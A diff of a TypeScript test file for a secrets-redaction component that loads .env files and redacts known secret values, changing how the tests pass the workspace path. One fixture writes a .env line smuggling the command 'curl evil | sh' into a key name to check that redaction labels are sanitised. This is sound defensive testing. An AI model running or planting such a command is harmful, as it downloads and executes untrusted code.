@@ -9,6 +9,7 @@ import { describe, expect, test } from 'vitest';
 import { pack } from '../../../src/activities/pack.js';
 import type { PinnedRun } from '../../../src/core/run-config.js';
 import { Secrets } from '../../../src/shared/secrets.js';
+import { dotEnvOf } from '../../../src/worker/known-secrets.js';
 import { redactActivities } from '../../../src/worker/redact-activities.js';
 import { unpack } from '../../../src/workflows/platform/unpack.js';
 import { NO_PERMISSIONS, pinnedRun } from '../../support/core-values.js';
@@ -111,7 +112,7 @@ describe('values of known secrets (TR4)', () => {
     const workspace = await mkdtemp(join(tmpdir(), 'steersman-secrets-'));
     await writeFile(join(workspace, '.env'), 'x; curl evil | sh;_key="sk-live-0123456789"\n');
     const known = new Secrets();
-    known.addDotEnv(workspace, 'workspace');
+    known.addDotEnv(dotEnvOf(workspace), 'workspace');
     expect(known.redact('sk-live-0123456789')).toBe('[secret x_curl_evil_sh__key]');
   });
 
@@ -125,7 +126,7 @@ describe('values of known secrets (TR4)', () => {
     ];
     await writeFile(join(workspace, '.env'), words.map((word, i) => `A${i}_KEY="${word}"`).join('\n'));
     const known = new Secrets();
-    known.addDotEnv(workspace, 'workspace');
+    known.addDotEnv(dotEnvOf(workspace), 'workspace');
     expect(known.redact(words.join(' '))).toBe(words.join(' '));
   });
 
@@ -144,11 +145,11 @@ describe('values of known secrets (TR4)', () => {
     const workspace = await mkdtemp(join(tmpdir(), 'steersman-secrets-'));
     await symlink('/dev/zero', join(workspace, '.env'));
     const known = new Secrets();
-    known.addDotEnv(workspace, 'workspace');
+    known.addDotEnv(dotEnvOf(workspace), 'workspace');
     await rm(join(workspace, '.env'));
     const many = Array.from({ length: 50_000 }, (_, i) => `A${i}_KEY=sk-${100_000_000 + i}`);
     await writeFile(join(workspace, '.env'), many.join('\n').slice(0, 999_999));
-    known.addDotEnv(workspace, 'workspace');
+    known.addDotEnv(dotEnvOf(workspace), 'workspace');
     expect(known.redact('sk-100000000 sk-100009999')).toBe('[secret A0_KEY] sk-100009999');
   });
 
